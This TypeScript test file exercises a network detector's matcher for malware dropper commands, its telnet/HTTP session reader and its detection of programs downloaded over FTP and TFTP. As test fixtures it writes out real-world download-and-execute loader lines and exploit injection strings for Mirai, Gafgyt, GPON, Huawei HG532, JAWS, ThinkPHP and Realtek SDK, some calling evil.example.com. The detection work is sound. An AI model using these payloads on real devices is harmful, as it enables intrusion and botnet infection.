/**
 * The dropper-command matcher (src/features/command-line.ts, commands.ts) and the raw program
 * signatures (src/features/raw-program.ts): the command shapes real loaders and exploits use,
 * text that only mentions a tool, the session reader (telnet negotiation, %-escapes, a command
 * cut over segments), random bytes that must never match, and programs fetched over FTP's data
 * connection (active and passive) or TFTP, as the feature stage hands them to the detectors.
 */
import { describe, expect, it } from 'vitest';
import { Rng } from '../../datasets/generator/prng.js';
import { commandsIn } from '../../src/features/command-line.js';
import { CommandScanner, sessionService } from '../../src/features/commands.js';
import { programAt } from '../../src/features/raw-program.js';
import {
  ACK,
  of,
  PSH_ACK,
  run,
  SYN,
  SYN_ACK,
  T0,
  tcpIn,
  tcpOut,
  udpIn,
  udpOut,
  type Timed,
} from './frames.js';

describe('commands in a line', () => {
  const shapes: [string, string, string, string, boolean][] = [
    [
      'Mirai loader',
      '/bin/busybox wget http://1.2.3.4/bins/x.arm7 -O /tmp/x; chmod 777 /tmp/x; /tmp/x',
      'wget',
      'http://1.2.3.4/bins/x.arm7',
      true,
    ],
    ['Mirai tftp', 'tftp -g -r x -l /tmp/x 1.2.3.4', 'tftp', 'tftp://1.2.3.4/x', false],
    ['tftp -c get', 'tftp 1.2.3.4 -c get x.mips', 'tftp', 'tftp://1.2.3.4/x.mips', false],
    [
      'Gafgyt',
      'cd /tmp || cd /var/run; wget http://5.6.7.8/bins.sh; chmod 777 bins.sh; sh bins.sh',
      'wget',
      'http://5.6.7.8/bins.sh',
      true,
    ],
    [
      'curl | sh',
      'curl -s http://evil.example.com/i.sh | sh',
      'curl',
      'http://evil.example.com/i.sh',
      true,
    ],
    ['curl -O, no scheme', 'curl -O 9.8.7.6/x.sh', 'curl', 'http://9.8.7.6/x.sh', false],
    [
      'ftpget',
      'ftpget -v -u anonymous -p anonymous -P 21 1.2.3.4 x.sh x.sh',
      'ftpget',
      'ftp://1.2.3.4/x.sh',
      false,
    ],
    [
      'GPON dest_host',
      'dest_host=`;wget http://1.2.3.4/gpon -O /tmp/gaf;sh /tmp/gaf`&ipv=0',
      'wget',
      'http://1.2.3.4/gpon',
      true,
    ],
    [
      'Huawei HG532',
      '<NewStatusURL>$(/bin/busybox wget -g 45.1.2.3 -l /tmp/kh -r /mips;/bin/busybox chmod 777 * /tmp/kh; /tmp/kh huawei.rep)</NewStatusURL>',
      'wget',
      'tftp://45.1.2.3/mips',
      true,
    ],
    [
      'JAWS, escaped slash',
      'GET /shell?cd /tmp;rm -rf *;wget http:/\\/1.2.3.4/jaws;sh /tmp/jaws HTTP/1.1',
      'wget',
      'http://1.2.3.4/jaws',
      true,
    ],
    [
      'ThinkPHP',
      "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]= 'wget http://1.2.3.4/t -O /tmp/t; chmod 777 /tmp/t; /tmp/t thinkphp'",
      'wget',
      'http://1.2.3.4/t',
      true,
    ],
    [
      'Realtek SDK',
      '<NewInternalClient>`cd /var; wget http://1.2.3.4/r; chmod 777 r; ./r realtek`</NewInternalClient>',
      'wget',
      'http://1.2.3.4/r',
      true,
    ],
    [
      '${IFS} for blanks',
      'wget${IFS}http://1.2.3.4/x;chmod${IFS}777${IFS}x',
      'wget',
      'http://1.2.3.4/x',
      true,
    ],
    ['echo loader', "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > .d", 'echo-loader', '', true],
    ['echo loader, ELF in clear', "echo -ne '\\x7fELF\\x01' >> .d", 'echo-loader', '', true],
    ['echo loader, octal', "printf '\\177ELF\\001' > .d", 'echo-loader', '', true],
  ];
  for (const [name, line, tool, url, runs] of shapes) {
    it(`${name}: ${tool} ${url}`, () => {
      expect(commandsIn(line)).toEqual([
        { tool, url, host: url === '' ? '' : expect.any(String), runs },
      ]);
    });
  }

  it('the host of the URL, without port or user', () => {
    expect(commandsIn('wget http://u:p@1.2.3.4:8080/x')[0].host).toBe('1.2.3.4');
    expect(commandsIn('tftp -g -r x evil.example.net')[0].host).toBe('evil.example.net');
  });

  it('text that only mentions a tool, or names nothing to fetch, is no command', () => {
    for (const line of [
      'you can use wget to download files',
      'User-Agent: Wget/1.21.2 curl/7.64.0',
      'ls -la; cat /etc/passwd; ps w; uname -a',
      'wget --help',
      'mywget http://1.2.3.4/x',
      'wget.exe http://1.2.3.4/x',
      'curl',
      'the tftp server is down',
      "echo -ne '\\x7f\\x45\\x4c' > .d",
    ]) {
      expect(commandsIn(line), line).toEqual([]);
    }
  });
});

/** Feeds `parts` as segments (PSH each); returns the commands found. */
function scan(service: 'telnet' | 'http' | 'shell', parts: (string | Buffer)[], answer = false) {
  const s = new CommandScanner(service);
  const out = [];
  for (const p of parts) {
    const b = typeof p === 'string' ? Buffer.from(p, 'latin1') : p;
    s.feed(b, 0, b.length, true);
    out.push(...s.take());
  }
  if (answer && s.answered()) out.push(...s.take());
  return out;
}

describe('a session read for commands', () => {
  it('telnet negotiation (options, a subnegotiation) is removed from the text', () => {
    const found = scan('telnet', [
      Buffer.from([255, 251, 24, 255, 250, 24, 0, 0x76, 0x74, 255, 240]),
      Buffer.concat([
        Buffer.from('wg'),
        Buffer.from([255, 241]),
        Buffer.from('et http://1.2.3.4/x\r\n'),
      ]),
    ]);
    expect(found.map((m) => m.url)).toEqual(['http://1.2.3.4/x']);
  });

  it('an HTTP request is read %-decoded, + as a blank', () => {
    const found = scan('http', [
      'GET /x?c=%60wget+http%3A%2F%2F1.2.3.4%2Fy%3Bsh+y%60 HTTP/1.1\r\n',
    ]);
    expect(found).toEqual([{ tool: 'wget', url: 'http://1.2.3.4/y', host: '1.2.3.4', runs: true }]);
  });

  it('a command cut inside its URL waits for the rest; one running to the end of a body waits for the answer', () => {
    expect(scan('http', ['a=`wget http://1.2.', '3.4/x`']).map((m) => m.url)).toEqual([
      'http://1.2.3.4/x',
    ]);
    expect(scan('http', ['cmd=wget http://1.2.3.4/x'])).toEqual([]);
    expect(scan('http', ['cmd=wget http://1.2.3.4/x'], true).map((m) => m.url)).toEqual([
      'http://1.2.3.4/x',
    ]);
  });

  it('a command after a line longer than the line buffer is still found, each once', () => {
    const junk = 'A'.repeat(1500);
    const found = scan('shell', [`${junk}; wget http://1.2.3.4/x\n`, 'wget http://1.2.3.4/x\n']);
    expect(found.map((m) => m.url)).toEqual(['http://1.2.3.4/x']);
  });

  it('the echo loader, repeated for every chunk of the binary, is one command', () => {
    const chunk = "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01' >> .d\r\n";
    expect(scan('telnet', [chunk, chunk, chunk])).toHaveLength(1);
  });

  it('which sessions are read: telnet ports, telnet negotiation, HTTP requests, plain text', () => {
    const t = (s: string | number[]): Buffer => Buffer.from(s as string);
    const svc = (b: Buffer, port: number) => sessionService(b, 0, b.length, port);
    expect(svc(t('anything'), 23)).toBe('telnet');
    expect(svc(t([255, 253, 24]), 4000)).toBe('telnet');
    expect(svc(t('POST /GponForm/diag_Form HTTP/1.1'), 8080)).toBe('http');
    expect(svc(t('enable\r\n'), 9000)).toBe('shell');
    expect(svc(t([0x16, 3, 1, 0, 200, 1]), 443)).toBeNull();
    expect(svc(t([0x10, 0x20, 0, 4, 0x4d, 0x51]), 1883)).toBeNull();
  });
});

describe('random bytes', () => {
  const rng = new Rng(0x5eed);
  const MB = 1 << 20;
  const data = Buffer.alloc(4 * MB);
  rng.fill(data, 0, data.length);

  it('4 MB read as telnet, HTTP and shell sessions hold no command', () => {
    for (const service of ['telnet', 'http', 'shell'] as const) {
      const s = new CommandScanner(service);
      let found = 0;
      for (let off = 0; off < data.length; off += 1448) {
        if (s.feed(data, off, Math.min(1448, data.length - off), true)) found += s.take().length;
      }
      expect(found, service).toBe(0);
    }
  });

  it('few random first segments look like a session to read', () => {
    let read = 0;
    let n = 0;
    for (let off = 0; off + 1448 <= data.length; off += 1448, n++) {
      if (sessionService(data, off, 1448, 8000) !== null) read++;
    }
    // All 32 first bytes printable (3/8 each): (3/8)^32 ≈ 2e-14; a telnet IAC start: 5/65536.
    expect(read / n).toBeLessThan(0.002);
  });

  it('at every offset of 4 MB: MZ or #! by chance ~128 times, a PE or script signature never', () => {
    let twoBytes = 0;
    let programs = 0;
    for (let off = 0; off + 1448 <= data.length; off++) {
      const b0 = data[off];
      const b1 = data[off + 1];
      if ((b0 === 0x4d && b1 === 0x5a) || (b0 === 0x23 && b1 === 0x21)) {
        twoBytes++;
        if (programAt(data, off, 1448) !== null) programs++;
      }
    }
    expect(twoBytes).toBeGreaterThan(60);
    expect(programs).toBe(0);
  });
});

const FTP = [203, 0, 113, 20];
/** A PE's first block: DOS header, e_lfanew 0x80, `PE\0\0` there (a 32-bit x86 COFF header). */
function pe(): Buffer {
  const b = Buffer.alloc(512, 0);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x14c, 0x84);
  return b;
}
const SCRIPT = Buffer.from('#!/bin/sh\ncd /tmp; wget http://203.0.113.20/x; chmod +x x; ./x\n');

describe('programs over FTP data connections and TFTP', () => {
  /** The device's downloads in `frames`, after a packet of its own (so it is a known device). */
  function downloads(frames: Timed[]) {
    const hello: Timed = [T0 + 0.5, udpOut([192, 168, 1, 1], 53, Buffer.alloc(30, 1), 53_000)];
    return of(run([hello, ...frames])).flatMap((w) => w.evidence.downloads);
  }

  it('active FTP (the server connects from port 20): a PE is a download', () => {
    const t = T0 + 1;
    // The server opens the data connection to the device's port 40500 (PORT) and sends first.
    const found = downloads([
      [t, tcpIn(FTP, 20, SYN, '', 40_500)],
      [t + 0.01, tcpOut(FTP, 20, SYN_ACK, '', 40_500)],
      [t + 0.02, tcpIn(FTP, 20, ACK, '', 40_500)],
      [t + 0.03, tcpIn(FTP, 20, PSH_ACK, pe(), 40_500)],
    ]);
    expect(found).toMatchObject([{ ip: '203.0.113.20', port: 20, magic: 'pe', via: 'stream' }]);
  });

  it('passive FTP (the device connects to the data port): a script is a download', () => {
    const t = T0 + 1;
    const found = downloads([
      [t, tcpOut(FTP, 50_123, SYN, '', 40_501)],
      [t + 0.01, tcpIn(FTP, 50_123, SYN_ACK, '', 40_501)],
      [t + 0.02, tcpIn(FTP, 50_123, PSH_ACK, SCRIPT, 40_501)],
    ]);
    expect(found).toMatchObject([{ port: 50_123, magic: 'script', via: 'stream' }]);
  });

  it('TFTP block 1 of a script is a download; MZ without PE, #! without an interpreter are not', () => {
    const t = T0 + 1;
    const block = (body: Buffer) => Buffer.concat([Buffer.from([0, 3, 0, 1]), body]);
    const found = downloads([
      [t, udpOut(FTP, 69, Buffer.from('\0\x01i.sh\0octet\0'), 41_000)],
      [t + 0.05, udpIn(FTP, 51_000, block(SCRIPT), 41_000)],
    ]);
    expect(found).toMatchObject([{ magic: 'script', via: 'tftp' }]);
    const mz = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510, 0x41)]);
    const bang = Buffer.from('#!not a path\n' + 'x'.repeat(100));
    expect(
      downloads([
        [t, udpIn(FTP, 51_001, block(mz), 41_001)],
        [t + 1, tcpIn(FTP, 20, SYN, '', 40_502)],
        [t + 1.01, tcpOut(FTP, 20, SYN_ACK, '', 40_502)],
        [t + 1.02, tcpIn(FTP, 20, PSH_ACK, bang, 40_502)],
      ]),
    ).toEqual([]);
  });
});
